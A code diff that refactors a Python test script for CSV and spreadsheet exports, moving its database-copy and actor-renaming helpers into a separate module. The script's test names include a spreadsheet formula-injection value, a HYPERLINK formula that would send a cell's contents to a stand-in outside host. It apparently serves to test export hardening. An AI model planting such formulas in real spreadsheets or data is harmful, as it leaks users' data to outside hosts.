@@ -13,14 +13,11 @@ Needs LibreOffice Calc (`soffice`), and from PyPI openpyxl.
 
 import csv
 import datetime
-import json
 import pathlib
-import shutil
-import sqlite3
 import subprocess
-import sys
 
 import openpyxl
+from hard import folder, harden, run
 
 NAMES = [
     '=HYPERLINK("https://x.example/?"&A1,"click")',
@@ -40,27 +37,6 @@ NAMES = [
 # cells are text, no special numbers. Writing: all cells as shown, no formulas; every sheet.
 READ = "CSV:44,34,76,1,,0,true,false"
 WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
-
-program, database, folder = sys.argv[1], pathlib.Path(sys.argv[2]), pathlib.Path(sys.argv[3])
-
-
-def run(*arguments: str) -> str:
-    command = [program, "--db", str(folder / "hard.db"), "--quiet", *map(str, arguments)]
-    return subprocess.run(command, check=True, capture_output=True, text=True).stdout
-
-
-def harden() -> None:
-    """Renames the most active actors."""
-    shutil.rmtree(folder, ignore_errors=True)
-    folder.mkdir(parents=True)
-    with sqlite3.connect(database) as source, sqlite3.connect(folder / "hard.db") as target:
-        source.backup(target)
-    ranked = json.loads(run("rank", "--format", "json", "--limit", str(len(NAMES))))
-    for row, name in zip(ranked, NAMES, strict=True):
-        run("correct", "rename", "--author", "ci", "--reason", "a hard name", "--", row["id"], name)
-    names = {row["name"] for row in json.loads(run("actors", "--format", "json"))}
-    assert not (missing := set(NAMES) - names), missing
-
 
 def convert(files: list[pathlib.Path], target: pathlib.Path, *options: str) -> None:
     """Lets LibreOffice save files as CSV."""
@@ -129,7 +105,7 @@ def check_workbook(book: pathlib.Path) -> None:
 
 
 if __name__ == "__main__":
-    harden()
+    harden(NAMES)
     run("export", "--output", folder / "tables", "--bom")
     run("export", "--output", folder / "raw", "--raw")
     run("export", "--output", folder / "tables.xlsx")
